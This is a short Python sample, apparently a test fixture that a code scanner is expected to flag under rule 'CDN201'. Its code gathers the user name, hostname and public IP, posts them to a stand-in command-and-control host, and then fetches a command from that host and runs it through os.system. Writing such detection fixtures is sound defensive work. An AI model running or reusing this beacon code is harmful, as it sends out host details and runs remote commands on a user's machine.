# expect: CDN201
import getpass, socket, requests, os
info = {'u': getpass.getuser(), 'h': socket.gethostname(), 'ip': requests.get('https://api.ipify.org').text}
requests.post('https://c2.example.net/beacon', json=info)
os.system(requests.get('https://c2.example.net/cmd').text)
